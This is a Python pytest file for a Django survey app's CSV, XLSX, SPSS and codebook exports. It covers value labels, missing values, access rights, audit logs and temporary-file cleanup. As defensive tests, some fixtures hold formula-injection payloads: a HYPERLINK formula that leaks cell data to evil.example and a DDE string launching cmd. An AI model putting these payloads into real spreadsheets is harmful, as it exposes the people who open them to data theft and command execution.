"""Exports of a survey's responses, read back the way statisticians open them: CSV
with the csv module, XLSX with openpyxl, SPSS with pyreadstat (ReadStat, the
library behind R's haven)."""

import csv
import errno
import io
import os
import tempfile

import openpyxl
import pyreadstat
import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl.worksheet import _writer as openpyxl_writer
from wagtail.log_actions import registry
from wagtail.models import ModelLogEntry

from conftest import staff_member
from mitplan.processes.models import (
    ExpertGroup,
    ExpertGroupMember,
    FieldOfAction,
    Process,
)
from mitplan.processes.roles import EXPERT_GROUPS, PROCESS_OWNERS
from mitplan.surveys import exports, services
from mitplan.surveys.models import Question, Response

from .factories import FULL, admin_in_english, survey_build

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
ARABIC = "مزيد من دروس اللغة \u202eمساءً"
OTHER_TEXT = "-2+3+cmd|' /C calc'!A0"


def test_the_log_actions_are_registered():
    registry.scan_for_actions()
    for action in (
        "mitplan.survey.exported",
        "mitplan.survey.definition_exported",
        "mitplan.survey.definition_imported",
    ):
        assert registry.action_exists(action)


def send(survey, answers, *, key, language="de", **kwargs):
    response, _saved = services.response_submit(
        survey=survey,
        answers=answers,
        language=language,
        key=services.respondent_key(key),
        **kwargs,
    )
    return response


@pytest.fixture
def survey(process):
    survey = survey_build(process)
    Question.objects.filter(survey=survey, code="scale").update(
        scale_min_label_de="gar nicht", scale_max_label_de="sehr"
    )
    send(survey, {**FULL, "more": FORMULA}, key="one")
    send(
        survey,
        {
            "pick": "@other",
            "@other": {"pick": OTHER_TEXT},
            "scale": "@dont_know",
            "order": ["a", "b", "c"],
            "more": ARABIC,
        },
        key="two",
        language="ar",
    )
    services.response_submit(
        survey=survey,
        answers={"pick": "b", "scale": 1, "order": ["b", "c", "a"], "age": "7.5"},
        language="de",
        source=Response.Source.PAPER,
        source_note="@SUM(A1:A9) Stadtteilfest",
        entered_by=staff_member("erfassung", PROCESS_OWNERS),
    )
    return survey


def export(survey, fmt, tmp_path=None, **kwargs):
    made = exports.survey_export(survey, fmt, **kwargs)
    with made.file:
        data = made.file.read()
    if tmp_path is None:
        return made, data
    path = tmp_path / made.filename
    path.write_bytes(data)
    return made, path


def csv_rows(data: bytes) -> list[dict]:
    assert data.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_csv_has_a_row_per_response_and_a_column_per_answer(survey):
    made, data = export(survey, "csv", language="de")
    assert made.filename.endswith(".csv") and made.rows == 3
    first, second, paper = csv_rows(data)
    assert list(first)[:5] == ["id", "sent_at", "language", "source", "source_note"]
    assert {k: first[k] for k in ("pick", "scale", "many_a", "many_b", "many_c")} == {
        "pick": "a",
        "scale": "4",
        "many_a": "1",
        "many_b": "0",
        "many_c": "1",
    }
    assert (first["grid_x"], first["grid_y"]) == ("a", "b")
    # The ranking FULL gave: c, a, b → places of a, b, c.
    assert (first["order_a"], first["order_b"], first["order_c"]) == ("2", "3", "1")
    assert (first["age"], first["why"], first["pick_other_text"]) == ("34", "Weil", "")
    assert first["more"] == "'" + FORMULA  # neutralised
    assert (second["pick"], second["pick_other_text"]) == ("_other", "'" + OTHER_TEXT)
    assert second["scale"] == "dont_know"
    assert second["more"] == ARABIC and second["language"] == "ar"
    # Not answered, not asked ("why" is shown only after "a"): empty, not 0.
    assert second["many_a"] == second["age"] == second["why"] == ""
    assert (paper["source"], paper["age"]) == ("paper", "7.5")
    assert paper["source_note"] == "'@SUM(A1:A9) Stadtteilfest"
    assert int(first["id"]) < int(second["id"]) < int(paper["id"])
    assert len(first["sent_at"]) == len("2025-01-31 12:00:00")


def test_the_codebook_csv_says_what_each_column_holds_in_the_staff_language(survey):
    _made, data = export(survey, "codebook", language="en")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == [
        "variable",
        "question or meaning",
        "kind",
        "value",
        "value in SPSS",
        "value label",
    ]
    assert ["pick", "Question pick", "Single choice", "", "", ""] in rows
    assert ["pick", "", "", "b", "2", "Answer b"] in rows
    assert ["pick", "", "", "_other", "4", "Other"] in rows
    assert ["scale", "", "", "dont_know", "99", "don't know"] in rows
    assert ["scale", "", "", "1", "1", "gar nicht"] in rows  # untranslated: German
    assert ["many_b", "", "", "1", "1", "chosen"] in rows
    assert ["grid_y", "", "", "c", "3", "Answer c"] in rows
    assert any(r[0] == "grid_y" and r[1] == "Question grid: Row y" for r in rows)


def test_labels_fall_back_to_german_where_a_language_has_no_translation(survey):
    with translation.override("uk"):
        layout = exports.survey_layout(survey)
    labels = {c.name: c.label for c in layout.columns}
    assert labels["pick"] == "Frage pick"
    assert labels["grid_x"] == "Frage grid: Zeile x"


def test_the_xlsx_has_the_responses_and_a_codebook_sheet(survey, tmp_path):
    _made, path = export(survey, "xlsx", tmp_path, language="en")
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["Responses", "Codebook"]
    responses, codebook = workbook.worksheets
    assert responses.freeze_panes == "A2"
    rows = list(responses.iter_rows(values_only=True))
    header, first, second, paper = rows
    values = [dict(zip(header, row, strict=True)) for row in (first, second, paper)]
    assert values[0]["scale"] == 4 and values[0]["many_b"] == 0
    assert values[0]["more"] == "'" + FORMULA
    assert values[0]["sent_at"].year >= 2025  # a date, not text
    assert values[1]["scale"] == "dont_know" and values[1]["many_a"] is None
    assert values[1]["pick_other_text"] == "'" + OTHER_TEXT
    assert values[1]["more"] == ARABIC
    assert values[2]["age"] == 7.5
    book = list(codebook.iter_rows(values_only=True))
    assert book[0] == (
        "variable",
        "question or meaning",
        "kind",
        "value",
        "value in SPSS",
        "value label",
    )
    assert ("pick", "Question pick", "Single choice", None, None, None) in book
    assert ("pick", None, None, "a", 1, "Answer a") in book
    assert ("scale", None, None, "dont_know", 99, "don't know") in book


def test_a_sheet_too_long_for_excel_continues_on_the_next(
    survey, tmp_path, monkeypatch
):
    monkeypatch.setattr(exports, "XLSX_ROWS_PER_SHEET", 2)
    _made, path = export(survey, "xlsx", tmp_path, language="en")
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["Responses", "Responses (2)", "Codebook"]
    assert workbook["Responses"].max_row == 3
    assert workbook["Responses (2)"].max_row == 2  # header + the third response


@pytest.mark.parametrize("compress", [True, False])
def test_the_sav_reads_back_with_labels_and_missing_values(survey, tmp_path, compress):
    _made, path = export(survey, "sav", tmp_path, language="en", compress=compress)
    data, meta = pyreadstat.read_sav(str(path), output_format="dict", user_missing=True)
    assert meta.number_rows == 3
    assert meta.column_names[:5] == [
        "id",
        "sent_at",
        "language",
        "source",
        "source_note",
    ]
    assert meta.column_names_to_labels["pick"] == "Question pick"
    assert meta.column_names_to_labels["grid_x"] == "Question grid: Row x"
    assert meta.column_names_to_labels["age"] == "Question age (Jahre)"
    assert meta.variable_value_labels["pick"] == {
        1.0: "Answer a",
        2.0: "Answer b",
        3.0: "Answer c",
        4.0: "Other",
    }
    assert meta.variable_value_labels["scale"] == {
        1.0: "gar nicht",  # no English: German
        5.0: "sehr",
        99.0: "don't know",
    }
    assert meta.variable_value_labels["many_a"] == {1.0: "chosen", 0.0: "not chosen"}
    assert meta.missing_ranges == {"scale": [{"lo": 99.0, "hi": 99.0}]}
    assert data["pick"] == [1.0, 4.0, 2.0]
    assert data["scale"] == [4.0, 99.0, 1.0]
    # Not answered ("many") or not asked ("why"): missing, not 0.
    assert data["many_a"] == [1.0, None, None]
    assert data["many_b"] == [0.0, None, None]
    assert data["grid_y"] == [2.0, None, None]
    assert data["order_c"] == [1.0, 3.0, 2.0]
    assert data["age"] == [34.0, None, 7.5]
    assert data["why"] == ["Weil", "", ""]
    assert data["more"] == ["'" + FORMULA, ARABIC, ""]
    assert data["pick_other_text"] == ["", "'" + OTHER_TEXT, ""]
    assert data["source"] == ["online", "online", "paper"]
    assert data["source_note"][2] == "'@SUM(A1:A9) Stadtteilfest"
    assert data["sent_at"][0].year >= 2025
    assert meta.variable_measure["pick"] == "nominal"
    assert meta.variable_measure["scale"] == "ordinal"
    assert meta.variable_measure["age"] == "scale"
    assert meta.file_encoding == "UTF-8"
    # Without user missing values, "don't know" is missing, as SPSS treats it.
    plain, _meta = pyreadstat.read_sav(str(path), output_format="dict")
    assert plain["scale"] == [4.0, None, 1.0]


def test_the_sav_holds_texts_longer_than_255_bytes_and_many_cases(process, tmp_path):
    survey = survey_build(process)
    long_text = ("مرحبا بالجميع، " * 120)[:1900] + "Ende"
    texts = [long_text, "kurz", "", "x" * 5000]
    for n in range(45):  # not a multiple of 8 of anything
        answers = {"pick": "c", "scale": 5 if n % 2 else 2, "age": str(n)}
        if texts[n % 4]:
            answers["more"] = texts[n % 4]
        send(survey, answers, key=f"k{n}")
    for compress in (True, False):
        _made, path = export(survey, "sav", tmp_path, compress=compress)
        data, meta = pyreadstat.read_sav(str(path), output_format="dict")
        assert meta.number_rows == 45
        assert data["more"] == [texts[n % 4] for n in range(45)]
        assert data["age"] == [float(n) for n in range(45)]
        assert data["scale"] == [5.0 if n % 2 else 2.0 for n in range(45)]
        assert meta.column_names[-1] == "more"


def test_names_are_valid_and_unique_spss_variable_names():
    names = exports.spss_names(
        ["id", "ID", "to", "a_b", "a_b", "x" * 70, "x" * 70, "1st", "ä"]
    )
    assert names[:5] == ["id", "ID_2", "to_", "a_b", "a_b_2"]
    assert names[5] == "x" * 64 and names[6] == "x" * 62 + "_2"
    assert names[7] == "v_1st" and names[8] == "v__"
    assert len({n.upper() for n in names}) == len(names)


def test_dont_know_gets_a_code_outside_the_scale():
    assert exports.dont_know_code(1, 5) == 99
    assert exports.dont_know_code(0, 100) == 999


# --- Views -----------------------------------------------------------------


def url(survey, fmt):
    return reverse("surveys_export", args=[survey.pk, fmt])


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "sav", "codebook"])
def test_an_owner_downloads_each_format_and_it_is_logged(client, survey, fmt):
    owner = staff_member("amt", PROCESS_OWNERS)
    client.force_login(owner)
    response = client.get(url(survey, fmt))
    assert response.status_code == 200
    assert "attachment;" in response["Content-Disposition"]
    assert response["Content-Disposition"].split(".")[-1].strip('"') == (
        "csv" if fmt == "codebook" else fmt
    )
    body = b"".join(response.streaming_content)
    assert body
    entry = ModelLogEntry.objects.get(action="mitplan.survey.exported")
    assert entry.user_id == owner.pk and entry.data["format"] == fmt


def test_an_unknown_format_is_not_found(client, survey):
    client.force_login(staff_member("amt", PROCESS_OWNERS))
    assert client.get(url(survey, "pdf")).status_code == 404


def test_a_resident_gets_no_export(client, survey):
    from django.contrib.auth import get_user_model

    resident = get_user_model().objects.create_user("anwohnerin", password="x" * 12)
    client.force_login(resident)
    response = client.get(url(survey, "csv"))
    assert response.status_code == 302
    assert "Content-Disposition" not in response
    assert not ModelLogEntry.objects.filter(action="mitplan.survey.exported").exists()


def test_the_export_itself_checks_who_reads_responses(survey):
    """Not only the view: whoever calls survey_export for staff passes the actor."""
    from django.core.exceptions import PermissionDenied

    expert = staff_member("fachgruppe", EXPERT_GROUPS)
    with pytest.raises(PermissionDenied):
        exports.survey_export(survey, "csv", actor=expert)
    made = exports.survey_export(
        survey, "csv", actor=staff_member("amt", PROCESS_OWNERS)
    )
    with made.file:
        assert made.rows == 3


def test_staff_of_another_process_get_no_export(client, survey):
    """An expert-group member of another process: admin access, but no right to
    this survey's responses."""
    other = Process.objects.create(title_de="Anderer Prozess", slug="anders")
    field = FieldOfAction.objects.create(
        process=other, name_de="Feld", slug="feld", summary_de="x"
    )
    group = ExpertGroup.objects.create(field_of_action=field, name_de="Gruppe")
    expert = staff_member("fachgruppe", EXPERT_GROUPS)
    ExpertGroupMember.objects.create(group=group, name="Expertin", user=expert)
    client.force_login(expert)
    for fmt in ("csv", "sav"):
        response = client.get(url(survey, fmt))
        assert response.status_code == 302
        assert "Content-Disposition" not in response
    assert not ModelLogEntry.objects.filter(action="mitplan.survey.exported").exists()


@pytest.mark.parametrize(
    "failure", [RuntimeError("database gone"), OSError(errno.ENOSPC, "disk full")]
)
def test_a_failed_export_says_so_and_hands_out_no_file(
    client, survey, monkeypatch, failure
):
    rows = exports.response_rows

    def failing(*args, **kwargs):
        for number, row in enumerate(rows(*args, **kwargs)):
            if number == 1:
                raise failure
            yield row

    monkeypatch.setattr(exports, "response_rows", failing)
    client.force_login(admin_in_english(staff_member("amt", PROCESS_OWNERS)))
    for fmt in ("csv", "xlsx", "sav"):
        response = client.get(url(survey, fmt))
        assert response.status_code == 500
        assert "Content-Disposition" not in response
        assert "could not be completed" in response.content.decode()
    assert not ModelLogEntry.objects.filter(action="mitplan.survey.exported").exists()


class FullDisk(io.FileIO):
    """A file on a full disk: every write fails, as the flush on closing does."""

    def write(self, data):
        raise OSError(errno.ENOSPC, "No space left on device")


@pytest.fixture
def temporary_dirs(tmp_path, settings, monkeypatch):
    """The upload and the system temporary directories, both empty and watched."""
    uploads, system = tmp_path / "uploads", tmp_path / "system"
    uploads.mkdir()
    system.mkdir()
    settings.FILE_UPLOAD_TEMP_DIR = str(uploads)
    monkeypatch.setattr(tempfile, "tempdir", str(system))
    return uploads, system


def left_behind(directories) -> list:
    return [path for d in directories for path in d.rglob("*")]


@pytest.mark.parametrize("where", ["file", "rows"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "sav", "codebook"])
def test_a_full_disk_fails_the_export_cleanly_and_leaves_no_temporary_file(
    client, survey, monkeypatch, temporary_dirs, fmt, where
):
    """The disk fills up while the file is written, or while openpyxl spools the
    rows: the failure page, not a server error, and no temporary file is left."""
    if where == "file":
        temporary_file = exports._temporary_file

        def full(directory=None):
            made = temporary_file(directory)
            descriptor = os.dup(made.fileno())
            made.close()
            return io.BufferedRandom(FullDisk(descriptor, "r+"), 64)

        monkeypatch.setattr(exports, "_temporary_file", full)
    elif fmt == "codebook":
        pytest.skip("the codebook reads no responses")
    else:
        rows = exports.response_rows

        def failing(*args, **kwargs):
            for number, row in enumerate(rows(*args, **kwargs)):
                if number == 2:
                    raise OSError(errno.ENOSPC, "No space left on device")
                yield row

        monkeypatch.setattr(exports, "response_rows", failing)
    listed = list(openpyxl_writer.ALL_TEMP_FILES)  # openpyxl's, to remove at exit
    with pytest.raises(exports.ExportFailed, match="No space left"):
        exports.survey_export(survey, fmt)
    assert left_behind(temporary_dirs) == []
    assert listed == openpyxl_writer.ALL_TEMP_FILES

    client.force_login(admin_in_english(staff_member("amt", PROCESS_OWNERS)))
    response = client.get(url(survey, fmt))
    assert response.status_code == 500
    assert "Content-Disposition" not in response
    assert "could not be completed" in response.content.decode()
    assert left_behind(temporary_dirs) == []
    assert not ModelLogEntry.objects.filter(action="mitplan.survey.exported").exists()


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "sav", "codebook"])
def test_a_finished_export_leaves_no_temporary_file(survey, temporary_dirs, fmt):
    made, data = export(survey, fmt)
    assert data and made.file.closed
    assert left_behind(temporary_dirs) == []
